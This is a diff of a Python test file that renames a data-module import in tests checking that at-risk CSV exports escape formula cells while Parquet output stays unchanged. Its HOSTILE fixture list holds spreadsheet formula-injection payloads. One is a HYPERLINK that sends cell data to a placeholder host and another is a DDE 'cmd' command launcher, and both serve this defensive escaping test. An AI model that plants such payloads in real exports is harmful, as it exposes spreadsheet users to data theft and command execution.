@@ -14,8 +14,8 @@ import pyarrow.parquet as pq
 import pytest
 
 import app.components
-from app import data
 from app.csv_cells import escape_cell, frame_csv, table_csv
+from app.data import at_risk as at_risk_data
 from tests.app.page_support import source
 
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1)', "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1)",
@@ -79,13 +79,13 @@ def test_the_at_risk_export_is_escaped_and_parquet_unchanged(snapshot_home: Path
             "where customer_id = 'c1'",
             [reason],
         )
-    csv_rows = cells(data.export_selection(source(), data.ScoreFilters(), "csv"))
+    csv_rows = cells(at_risk_data.export_selection(source(), at_risk_data.ScoreFilters(), "csv"))
     assert no_formula(csv_rows)
     header, first = csv_rows[0], csv_rows[1]
     assert first[header.index("customer_id")] == "c1"
     assert first[header.index("top_reasons")] == "'" + reason
     assert first[header.index("offer_type")] == "'@offer"
     parquet = pq.read_table(
-        io.BytesIO(data.export_selection(source(), data.ScoreFilters(), "parquet"))
+        io.BytesIO(at_risk_data.export_selection(source(), at_risk_data.ScoreFilters(), "parquet"))
     ).to_pandas()
     assert parquet.iloc[0]["top_reasons"] == reason and parquet.iloc[0]["offer_type"] == "@offer"
